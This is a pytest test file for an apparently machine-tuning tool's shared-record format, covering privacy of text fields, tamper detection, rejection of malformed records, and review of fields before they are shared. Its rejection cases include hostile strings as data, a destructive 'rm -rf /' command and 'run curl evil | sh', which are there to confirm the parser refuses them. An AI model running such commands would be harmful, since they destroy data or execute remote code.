"""What a record holds, what never enters one, and that what is altered is refused."""

import contextlib
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from autotune.errors import InvalidInput
from autotune.plan.base import Frozen
from autotune.plan.hardware import Capability, Rate, Versions
from autotune.plan.workload import Bucket, ModelSpec, Workload
from autotune.share.record import (
    MAX_RECORD_BYTES,
    MAX_TRIALS,
    DamagedRecord,
    Machine,
    build_record,
    name_of,
    parse_record,
)
from tests.builders import GIB, candidate, trial
from tests.share.examples import DAY, TRIALS, machine, plan, record

SECRET = "alice-secret"


def test_texts_of_people_and_machines_stay_out() -> None:
    """Each text field gets a text of its own. Versions come from packages, knobs' values and
    shapes from autotune."""
    here = _planted(
        machine(
            capabilities=(Capability(name="precision.bf16", available=True, reason="x"),),
            notes=("x",),
        ),
        "machine",
    )
    made = _planted(plan(here, output="x", preview_prompts=("x",)), "plan", but="frozen")
    frozen = _planted(made.frozen, "frozen", but="hardware settings trials")
    frozen = frozen.changed(
        trials=tuple(_planted(one, "trial", but="candidate") for one in frozen.trials)
    )
    planned = made.model_copy(update={"frozen": frozen})
    assert planned.model_dump_json().count(CANARY) > 20
    assert here.model_dump_json().count(CANARY) > 20
    leaves = _texts(json.loads(build_record(planned, here).content))
    left = {path for path, text in leaves if CANARY in text}
    assert left == {
        *(f"machine.versions.{name}" for name in Versions.model_fields),
        *("machine.device_name", "machine.rates.name", "autotune_version"),
        *("machine.match_keys.torch", "machine.match_keys.cuda"),
        *(
            "workload.model.family",
            "workload.model.architecture",
            "workload.model.name",
            "workload.targets",
        ),
    }
    assert dict(leaves)["workload.model.name"] == f"{CANARY} frozen.workload.model.family", (
        "not the folder's name"
    )


CANARY = "canary"


def _planted(thing: Any, path: str, but: str = "") -> Any:
    """The same with a text that tells its place in every field that takes any."""
    for name, value in dict(thing).items():
        place = f"{path}.{name}"
        if name in but.split():
            continue
        if value is None or isinstance(value, str):
            with contextlib.suppress(ValidationError):
                thing = thing.changed(**{name: f"{CANARY} {place}"})
        elif isinstance(value, Frozen):
            thing = thing.model_copy(update={name: _planted(value, place)})
        elif isinstance(value, tuple) and value and isinstance(value[0], str):
            thing = thing.model_copy(update={name: (f"{CANARY} {place}",)})
        elif isinstance(value, tuple) and value and isinstance(value[0], Frozen):
            thing = thing.model_copy(update={name: tuple(_planted(one, place) for one in value)})
    return thing


def _texts(data: Any, path: str = "") -> list[tuple[str, str]]:
    if isinstance(data, dict):
        return [
            leaf
            for key, value in data.items()
            for leaf in _texts(value, f"{path}.{key}" if path else key)
        ]
    if isinstance(data, list):
        return [leaf for value in data for leaf in _texts(value, path)]
    return [(path, data)] if isinstance(data, str) else []


@settings(max_examples=25)
@given(st.data())
def test_a_record_survives_its_bytes_and_any_other_byte_is_refused(data: st.DataObject) -> None:
    seconds = data.draw(st.lists(st.floats(1e-6, 1e6), min_size=1, max_size=4))
    trials = (
        trial(candidate(micro_batch_size=2), outcome="crash", step_seconds=tuple(seconds)),
        *TRIALS,
    )
    made = record(
        trials=trials,
        search_seconds=data.draw(st.integers(0, 10**12)) / 1000,
        measured_on=data.draw(st.dates(max_value=DAY)),
    )
    assert parse_record(made.content, made.name) == made
    place = data.draw(st.integers(0, len(made.content) - 1))
    altered = bytearray(made.content)
    altered[place] ^= data.draw(st.integers(1, 255))
    with pytest.raises(DamagedRecord):
        parse_record(bytes(altered), made.name)
    with pytest.raises(DamagedRecord):
        parse_record(made.content[:place], made.name)


def _changed(**changes: object) -> bytes:
    data = json.loads(record().content)
    for path, value in changes.items():
        *parents, last = path.split("__")
        owner = data
        for parent in parents:
            owner = owner[int(parent) if isinstance(owner, list) else parent]
        owner[last] = value
    return json.dumps(data).encode()


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"null",
        b"{",
        b"\xff\xfe",
        b"[" * 100_000,
        b" " * (MAX_RECORD_BYTES + 1),
        b'{"schema_version":2}',
        _changed(schema_version=3),
        _changed(schema_version=True),
        _changed(command="rm -rf /"),
        _changed(search_seconds="60"),
        _changed(search_seconds=float("nan")),
        _changed(search_seconds=-1.0),
        _changed(machine__device_name="\x1b[31mred"),
        _changed(machine__device_name="\u202eevil"),
        _changed(machine__device_name="x" * 1000),
        _changed(machine__total_memory_bytes=10**400),
        _changed(machine__match_keys={"k" * 200: "v"}),
        _changed(trials=[]),
        _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS),
        _changed(expected__evidence="predicted"),
        _changed(settings__micro_batch_size=3),
        _changed(trials__0__message="run curl evil | sh"),
        _changed(trials__0__final_loss=0.25),
    ],
    ids=range(24),
)
def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
    name = name_of(content)
    with pytest.raises(DamagedRecord, match=name[:12]) as caught:
        parse_record(content, name)
    assert caught.value.message.isprintable()
    assert len(caught.value.message) < 400


VERIFIED = {"trials": TRIALS[1:2], "records": ("0" * 64,)}


@pytest.mark.parametrize(
    ("changes", "conclusive"),
    [
        ({}, True),
        ({"pins": (("attention", "native"),)}, False),
        ({"trials": TRIALS[:2]}, False),  # e.g. --max-trials 2
        (VERIFIED, True),
        (VERIFIED | {"trials": (TRIALS[1], TRIALS[1].changed(confirms=True))}, False),  # cut short
    ],
)
def test_a_search_that_was_cut_short_answers_nobody_elses_question(
    changes: dict[str, object], conclusive: bool
) -> None:
    made = plan(machine())
    limited = made.model_copy(update={"frozen": made.frozen.model_copy(update=changes)})
    assert build_record(limited, machine()).conclusive == conclusive


@pytest.mark.parametrize(
    ("part", "changes", "why"),
    [
        ("expected", {"evidence": "predicted"}, "predicted"),
        ("hardware", {"device_name": "NVIDIA L4"}, "another machine"),
        ("trials", {"memory_cap_bytes": 12 * GIB}, "cap on memory"),
    ],
)
def test_what_is_no_evidence_is_not_shared(part: str, changes: dict[str, Any], why: str) -> None:
    made = plan(machine())
    old: Any = getattr(made.frozen, part)
    new = (
        tuple(one.model_copy(update=changes) for one in old)
        if part == "trials"
        else old.model_copy(update=changes)
    )
    frozen = made.frozen.model_copy(update={part: new})
    with pytest.raises(InvalidInput, match=why):
        build_record(made.model_copy(update={"frozen": frozen}), machine())


JUDGED = {
    Machine: "match_keys device_name total_memory_bytes budget_bytes logical_cores "
    "power_limit_watts versions rates noisy",
    Rate: "name value unit spread num_samples conditions",
    Workload: "rank lora_alpha lora_dropout targets adapted_blocks adapter ema_decay "
    "effective_batch_size quality objective model resolution_px buckets max_text_tokens "
    "text_token_quantiles text_padding num_control_images optimizer",
    ModelSpec: "family architecture num_parameters num_blocks name",
    Bucket: "width_px height_px num_frames num_items",
}
"""Fields that are shared whole: they were judged to tell nothing about people or data, or are
replaced by `build_record`."""


@pytest.mark.parametrize("kind", JUDGED)
def test_a_new_field_is_judged_before_it_leaves_the_machine(kind: type[Frozen]) -> None:
    assert set(kind.model_fields) == set(JUDGED[kind].split())
